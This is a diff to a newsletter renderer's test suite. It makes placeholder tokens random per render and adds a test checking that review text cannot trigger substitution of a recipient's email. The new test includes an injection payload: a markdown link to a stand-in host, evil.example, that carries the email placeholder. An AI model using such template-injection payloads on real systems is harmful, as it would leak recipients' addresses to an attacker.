@@ -5,7 +5,7 @@ from datetime import datetime, timezone
 from newsletter.compose import make_issue
 from newsletter.config import load_config
 from newsletter.gather import gather
-from newsletter.render import PLACEHOLDERS, Renderer, personalize
+from newsletter.render import Renderer, personalize
 from newsletter.store import Store
 from tests.conftest import make_config, review, write_jsonl
 
@@ -38,7 +38,7 @@ def test_placeholders_are_filled_and_escaped(tmp_path):
     out = Renderer(config).render_issue(issue, reviews)
     html, text = personalize(out, {"greeting": "Hi <Tom & Jerry>", "name": "<Tom & Jerry>", "email": "t@example.org",
                                    "unsubscribe_url": "https://x.org/u?t=a&b", "preferences_url": "https://x.org/p"})
-    for token in PLACEHOLDERS.values():
+    for token in out.placeholders.values():
         assert token not in html and token not in text
     assert "Hi &lt;Tom &amp; Jerry&gt;" in html and "Hi <Tom & Jerry>" in text
     assert "https://x.org/u?t=a&amp;b" in html and "https://x.org/u?t=a&b" in text
@@ -88,3 +88,15 @@ def test_no_web_fonts_are_loaded(tmp_path):
     """The email loads no web font from a third-party host."""
     config, store, issue, reviews = setup(tmp_path, [review(1)])
     assert "fonts.googleapis.com" not in Renderer(config).render_issue(issue, reviews).html
+
+
+def test_review_text_cannot_spell_a_placeholder(tmp_path):
+    """Placeholders are random per renderer, so review text never gets a recipient's address or links."""
+    config, store, issue, reviews = setup(tmp_path, [review(1)])
+    old = Renderer(config).render_issue(issue, reviews)
+    token = old.placeholders["email"]
+    config, store, issue, reviews = setup(tmp_path / "b", [review(2, title=token, body=f"[x](https://evil.example/?e={token})")])
+    out = Renderer(config).render_issue(issue, reviews)
+    assert token not in out.placeholders.values()
+    html, text = personalize(out, {"email": "victim@example.org", "unsubscribe_url": "https://u/secret"})
+    assert "victim@example.org" not in html and "victim@example.org" not in text
